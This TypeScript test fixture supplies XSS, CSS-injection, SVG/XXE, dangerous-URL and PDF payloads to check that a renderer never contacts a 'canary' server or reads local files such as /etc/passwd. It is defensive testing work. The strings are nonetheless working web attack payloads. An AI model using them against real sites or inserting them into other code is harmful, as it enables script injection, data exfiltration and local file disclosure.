/** The text that a script of an attack adds to the page if it runs. */
export const TRACE = 'a script ran';

/**
 * Texts that do harm if they are interpreted as anything but text. `canary` is a server that must receive no request, `file` the
 * address of a file that must not be read.
 */
export function attacksOn(canary: string, file = 'file:///etc/passwd'): readonly string[] {
  // The script concatenates its text, so that the source of the script is not mistaken for its effect.
  const script = `document.documentElement.append('a script'+' ran')`;
  return [
    `<script>fetch('${canary}/1')</script>`,
    `"><script src=${canary}/2></script>`,
    `</script></style></title><script>new Image().src='${canary}/3'</script>`,
    `<img src=${canary}/4 onerror="${script}">`,
    `' onload='fetch("${canary}/5")' x='`,
    `" style="background:url(${canary}/6)" x="`,
    `<iframe src=${file}></iframe>`,
    `<iframe srcdoc="<img src=${canary}/7>"></iframe>`,
    `<object data=${file}></object><embed src=${file}>`,
    `</title></style><link rel=stylesheet href=${canary}/8>`,
    `<link rel=preload as=image href=${canary}/9><link rel=dns-prefetch href=${canary}/10>`,
    `'");}@import url(${canary}/11);{`,
    `*/}@font-face{font-family:x;src:url(${canary}/12)}body{font-family:x}/*`,
    `;background:url(${canary}/13);--x:url(${file})`,
    `\\22 ;}@import '${canary}/14';{\\22`,
    `<svg><image href=${canary}/15 /><use href=${canary}/16#a /></svg>`,
    `<svg><foreignObject><iframe src=${file} /></foreignObject></svg>`,
    `<![CDATA[<script>fetch('${canary}/17')</script>]]>`,
    `<!--><img src=${canary}/18><!-- -->`,
    `<meta http-equiv=refresh content="0;url=${canary}/19">`,
    `<base href=${canary}/20/><a ping=${canary}/21 href=x>`,
    `<video poster=${canary}/22><source src=${canary}/23></video>`,
    `<form action=${canary}/24><input autofocus onfocus="${script}"></form>`,
    `&lt;script&gt;fetch('${canary}/25')&lt;/script&gt;&#60;img src=${canary}/26&#62;`,
    `]]></rdf:li><x:import href="${file}"/><rdf:li>`,
    `) /JavaScript (app.alert(1)) endobj /URI (${canary}/27`,
    `${'\\'}) >> /OpenAction << /S /URI /URI (${canary}/28) >>`,
    `<script>${script}</script>`,
    `"><svg onload="${script}"><animate onbegin="${script}" attributeName=x dur=1s>`,
    `<style>@import '${canary}/33';@namespace url(${canary}/34);p{background:url(${canary}/35)}</style>`,
    `"></style><style>*{background:url(${canary}/36);cursor:url(${canary}/37),auto}</style>`,
    `<link rel="shortcut icon" href=${canary}/39><link rel=modulepreload href=${canary}/52>`,
    `<audio src=${canary}/53 autoplay></audio><input type=image src=${canary}/54>`,
    `<picture><source srcset=${canary}/55><img></picture>`,
    `"><iframe src=${file}></iframe>`,
    `<iframe src="javascript:fetch('${canary}/57')"></iframe>`,
    `<iframe src="data:text/html,<img src=${canary}/58>"></iframe>`,
    `<style>@import '${file}';</style><img src=${file}>`,
    `{{constructor.constructor('return process')()}}\${7*7}<%= 7*7 %>`,
  ];
}

/** Targets that no link may have. */
export function linksTo(canary: string): readonly string[] {
  return [
    `javascript:fetch('${canary}/30')`,
    `JaVaScRiPt:alert(1)`,
    `data:text/html,<script>fetch('${canary}/31')</script>`,
    'file:///etc/passwd',
    'vbscript:x',
    '\\\\server\\share',
    ' javascript:alert(1)',
    `view-source:${canary}/32`,
  ];
}

/** An SVG that refers to every kind of resource to which an SVG can refer. */
export function hostileSvg(canary: string): Uint8Array {
  return new TextEncoder().encode(`<?xml version="1.0"?><?xml-stylesheet href="${canary}/40" type="text/css"?>
<!DOCTYPE svg [<!ENTITY file SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" onload="fetch('${canary}/41')">
<style>@import url(${canary}/42);@font-face{font-family:x;src:url(${canary}/43)}text{font-family:x}</style>
<script>fetch('${canary}/44')</script><script href="${canary}/45"/>
<image href="${canary}/46" width="10" height="10"/><image xlink:href="file:///etc/passwd" width="10" height="10"/>
<use href="${canary}/47#a"/><rect width="9" height="9" fill="url(${canary}/48#g)" filter="url(${canary}/49#f)"/>
<foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="file:///etc/passwd"/><img xmlns="http://www.w3.org/1999/xhtml" src="${canary}/50"/></foreignObject>
<a href="javascript:fetch('${canary}/51')"><text y="20">&file;</text></a>
<rect x="20" width="100" height="50" fill="#00AA00"/></svg>`);
}
